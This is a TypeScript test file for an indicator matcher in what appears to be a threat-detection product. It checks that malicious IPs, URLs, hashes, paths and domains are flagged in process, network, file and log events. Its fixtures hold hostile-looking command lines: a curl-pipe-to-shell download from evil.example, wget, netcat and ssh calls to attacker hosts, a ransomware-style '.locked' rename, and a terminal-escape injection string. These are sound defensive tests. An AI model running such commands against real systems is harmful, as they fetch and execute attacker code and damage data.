import { normaliseIndicator } from '@vedette/formats'
import type { Event, Fingerprint, IndicatorType } from '@vedette/model'
import { expect, test } from 'vitest'
import { authenticationEvent, fileEvent, logEvent, networkEvent, processEvent } from '../../testing/events.ts'
import { IndicatorMatcher, type MatchedIndicator } from './indicator-matcher.ts'
import { visitText } from './observables.ts'

const NOW = 1_700_000_000_000
const clock = { now: () => NOW, monotonic: () => 0 }
const hash = 'ab'.repeat(32)
const fingerprint: Fingerprint = { algorithm: 'SHA-256', algorithm_id: 3, value: hash }

function indicator(
  number: number,
  type: IndicatorType,
  text: string,
  rest: Partial<MatchedIndicator> = {},
): MatchedIndicator {
  const outcome = normaliseIndicator(type, text)
  if (!outcome.ok) throw new Error(`${type} ${text}: ${outcome.reason}`)
  return {
    number,
    ...outcome.value,
    source: 'urlhaus',
    confidence: 80,
    severity: 'high',
    tlp: 'green',
    validFrom: NOW - 3 * 86_400_000,
    tags: ['mirai'],
    techniques: ['T1105'],
    ...rest,
  }
}

function matcherOf(...indicators: MatchedIndicator[]): IndicatorMatcher {
  const matcher = new IndicatorMatcher({ clock, seed: 3 })
  for (const one of indicators) matcher.add(one)
  return matcher
}

test('I9, I10: a match names the indicator, its source, age, confidence and TLP, and counts a sighting', () => {
  const matcher = matcherOf(indicator(7, 'ipv4', '198.51.100.7'))
  const event = networkEvent()
  const detections = matcher.evaluate([event])
  expect(detections).toMatchObject([
    {
      rule: {
        id: 'indicator-ipv4',
        severity: 'high',
        type: 'indicator',
        riskPoints: 40,
        techniques: [{ id: 'T1105' }],
      },
      title: 'bash connected to 198.51.100.7, which urlhaus lists',
      entity: 'address:198.51.100.7',
      matches: [{ event: event.id, field: 'dst_endpoint.ip', value: '198.51.100.7' }],
      aggregate: {
        indicator: '7',
        source: 'urlhaus',
        confidence: 80,
        tlp: 'green',
        age_days: 3,
        tags: 'mirai',
      },
    },
  ])
  expect(matcher.takeSightings()).toEqual([{ number: 7, count: 1, first: event.time, last: event.time }])
  expect(matcher.takeSightings()).toEqual([])
})

test('judging an event again gives the same id', () => {
  const matcher = matcherOf(indicator(7, 'ipv4', '198.51.100.7'))
  const event = networkEvent()
  expect(matcher.evaluate([event])[0]?.id).toBe(matcher.evaluate([event])[0]?.id)
  expect(matcher.evaluate([networkEvent()])[0]?.id).not.toBe(matcher.evaluate([event])[0]?.id)
})

const events: readonly (readonly [string, IndicatorType, string, Event, string])[] = [
  [
    'the program',
    'sha256',
    hash,
    processEvent({ process: { file: { path: '/x', name: 'x', hashes: [fingerprint] } } }),
    'process.file.hashes.0.value',
  ],
  ['its path', 'path', '/usr/bin/ba*', processEvent(), 'process.path'],
  ['its name', 'process_name', 'bash', processEvent(), 'process.name'],
  [
    'an address on its command line',
    'ipv4',
    '198.51.100.9',
    processEvent({ process: { cmd_line: 'nc 198.51.100.9 443' } }),
    'process.cmd_line',
  ],
  [
    'a URL on its command line',
    'url',
    'http://evil.example/x.sh',
    processEvent({ process: { cmd_line: "sh -c 'curl -s http://evil.example/x.sh|sh'" } }),
    'process.cmd_line',
  ],
  [
    'a URL without a scheme',
    'url',
    'http://evil.example/x.sh',
    processEvent({ process: { cmd_line: 'wget evil.example/x.sh' } }),
    'process.cmd_line',
  ],
  [
    'a host on its command line',
    'domain',
    'evil.example',
    processEvent({ process: { cmd_line: 'ssh root@evil.example' } }),
    'process.cmd_line',
  ],
  [
    'a path on its command line',
    'path',
    '/dev/shm/.x',
    processEvent({ process: { cmd_line: 'sh /dev/shm/.x' } }),
    'process.cmd_line',
  ],
  [
    'who is at its standard input',
    'ipv4',
    '198.51.100.3',
    processEvent({
      process: {
        streams: [
          { type: 'socket', peer: { ip: '198.51.100.3', port: 1 } },
          { type: 'tty' },
          { type: 'tty' },
        ],
      },
    }),
    'process.streams.0.peer.ip',
  ],
  ['the other end', 'cidr', '198.51.100.0/24', networkEvent(), 'dst_endpoint.ip'],
  [
    'who opened it',
    'ipv4',
    '203.0.113.9',
    networkEvent({ activity: 'accept', direction: 'inbound', src_endpoint: { ip: '203.0.113.9', port: 9 } }),
    'src_endpoint.ip',
  ],
  ['a file that was written', 'path', '/etc/passwd', fileEvent(), 'file.path'],
  [
    'its hash',
    'sha256',
    hash,
    fileEvent({ file: { path: '/x', name: 'x', hashes: [fingerprint] } }),
    'file.hashes.0.value',
  ],
  [
    'its new name',
    'path',
    '*.locked',
    fileEvent({ activity: 'rename', file_result: { path: '/a.locked', name: 'a.locked' } }),
    'file_result.path',
  ],
  ['who logs in', 'ipv4', '203.0.113.7', authenticationEvent(), 'src_endpoint.ip'],
  [
    'a host in a log line',
    'domain_suffix',
    'evil.example',
    logEvent({ message: 'query: a.b.evil.example. IN A' }),
    'message',
  ],
  [
    'a hash in a log line',
    'md5',
    'cd'.repeat(16),
    logEvent({ message: `scan: MD5=${'CD'.repeat(16)} found` }),
    'message',
  ],
  [
    'an IPv6 address with a port',
    'ipv6',
    '2001:db8::7',
    logEvent({ message: 'from [2001:db8::7]:443 port' }),
    'message',
  ],
]

test.each(events)('found in an event: %s', (_what, type, text, event, field) => {
  const detections = matcherOf(indicator(1, type, text)).evaluate([event])
  expect(detections.map(({ matches }) => matches[0]?.field)).toEqual([field])
  expect(
    matcherOf(indicator(1, type, text === hash ? 'ef'.repeat(32) : changed(type))).evaluate([event]),
  ).toEqual([])
})

/** Some other value of the type. */
function changed(type: IndicatorType): string {
  if (type === 'path') return '/nowhere/else'
  if (type === 'process_name') return 'other'
  if (type === 'url') return 'http://evil.example/y.sh'
  if (type === 'md5') return 'ef'.repeat(16)
  if (type === 'cidr') return '192.0.2.0/24'
  if (type === 'ipv6') return '2001:db8::8'
  return type === 'ipv4' ? '192.0.2.1' : 'other.example'
}

test('I1: what stands twice in an event, and has two sources, is one detection', () => {
  const matcher = matcherOf(
    indicator(1, 'domain', 'evil.example', { source: 'a', severity: 'low' }),
    indicator(2, 'domain_suffix', 'evil.example', { source: 'b', severity: 'critical' }),
  )
  const detections = matcher.evaluate([logEvent({ message: 'evil.example asked; evil.example answered' })])
  expect(detections).toMatchObject([
    {
      rule: { severity: 'critical' },
      aggregate: { source: 'b, a', indicator: '2' },
      matches: [{ start: 0 }, { start: 20 }],
    },
  ])
  expect(
    matcher
      .takeSightings()
      .map(({ number }) => number)
      .sort((a, b) => a - b),
  ).toEqual([1, 2])
})

test('I8: an allow entry wins and counts the hit, until it ends', () => {
  const matcher = matcherOf(indicator(1, 'ipv4', '198.51.100.7'), indicator(2, 'url', 'http://cdn.example/x'))
  matcher.allow({ number: 5, type: 'cidr', value: '198.51.100.0/24' })
  matcher.allow({ number: 6, type: 'domain_suffix', value: 'cdn.example', expiresAt: NOW + 10_000 })
  const download = processEvent({ time: NOW, process: { cmd_line: 'curl http://cdn.example/x' } })
  expect(matcher.evaluate([networkEvent(), download])).toEqual([])
  expect(matcher.takeHits().map(({ number, count }) => [number, count])).toEqual([
    [5, 1],
    [6, 1],
  ])
  expect(matcher.takeSightings()).toEqual([])
  expect(matcher.counters.allowed).toBe(2)
  matcher.disallow({ number: 5, type: 'cidr', value: '198.51.100.0/24' })
  expect(matcher.evaluate([networkEvent()])).toHaveLength(1)
  matcher.disallow({ number: 6, type: 'domain_suffix', value: 'cdn.example' })
  matcher.allow({ number: 6, type: 'domain_suffix', value: 'cdn.example', expiresAt: NOW - 10_000 })
  expect(matcher.evaluate([download])).toHaveLength(1)
})

test('what was added or removed holds from the next event on', () => {
  const matcher = matcherOf()
  expect(matcher.evaluate([networkEvent()])).toEqual([])
  const one = indicator(1, 'ipv4', '198.51.100.7')
  matcher.add(one)
  expect(matcher.evaluate([networkEvent()])).toHaveLength(1)
  matcher.remove(one)
  expect(matcher.evaluate([networkEvent()])).toEqual([])
})

test('I7: the end of a process or of a connection is not looked at again', () => {
  const matcher = matcherOf(indicator(1, 'process_name', 'bash'), indicator(2, 'ipv4', '198.51.100.7'))
  expect(
    matcher.evaluate([processEvent({ activity: 'terminate' }), networkEvent({ activity: 'close' })]),
  ).toEqual([])
})

test('I1: a line of many bad words is told by the first sixteen', () => {
  const indicators = Array.from({ length: 40 }, (_, i) => indicator(i + 1, 'ipv4', `198.51.100.${i + 1}`))
  const message = indicators.map(({ value }) => value).join(' ')
  const matcher = matcherOf(...indicators)
  expect(matcher.evaluate([logEvent({ message })])).toHaveLength(16)
  expect(matcher.takeSightings()).toHaveLength(40)
})

test('what a feed and an attacker write cannot give a terminal orders', () => {
  const matcher = matcherOf(indicator(1, 'path', '/tmp/\u202egpj.exe', { source: 'a\u001b[2Jb' }))
  const [detection] = matcher.evaluate([fileEvent({ file: { path: '/tmp/\u202egpj.exe', name: 'x' } })])
  expect(`${detection?.title}${detection?.entity}${detection?.aggregate?.['source']}`).not.toMatch(
    // oxlint-disable-next-line no-control-regex -- control characters are what is sought
    /[\u001b\u202e]/,
  )
})

function told(text: string): string[] {
  const found: string[] = []
  visitText(text, 'message', (kind, value, _field, whole, start, length) => {
    found.push(`${kind} ${value} ${whole.slice(start, start + length)}`)
  })
  return found
}

test.each([
  [
    'x=http://A.example:80/b?c=d#e,f',
    [
      'url http://a.example/b?c=d http://A.example:80/b?c=d#e',
      'domain a.example http://A.example:80/b?c=d#e',
    ],
  ],
  ['(198.51.100.7:22)', ['address 198.51.100.7 198.51.100.7']],
  ['scp a@b.example:/etc/x', ['domain b.example b.example']],
  [
    '--proxy=socks5://198.51.100.7:9050',
    [
      'url socks5://198.51.100.7:9050 socks5://198.51.100.7:9050',
      'address 198.51.100.7 socks5://198.51.100.7:9050',
    ],
  ],
  ['a/b.example/c', []],
  ['of=/dev/sda', ['path /dev/sda /dev/sda']],
  ['sha256:' + hash, [`hash ${hash} ${hash}`]],
  ['nothing to see here', []],
])('visitText(%j)', (text, expected) => {
  expect(told(text)).toEqual(expected)
})

test('a record that a log event carries is looked at in its own fields', () => {
  const matcher = matcherOf(indicator(1, 'domain', 'c2.evil.test'), indicator(2, 'process_name', 'bad.exe'))
  const unmapped = { QueryName: 'c2.evil.test', Image: 'C:\\x\\Bad.exe' }
  const found = matcher.evaluate([logEvent({ message: 'nothing', unmapped })])
  expect(found.map(({ matches: [match] }) => [match?.field, match?.value])).toEqual([
    ['unmapped.QueryName', 'c2.evil.test'],
    ['unmapped.Image', 'C:\\x\\Bad.exe'],
  ])
})
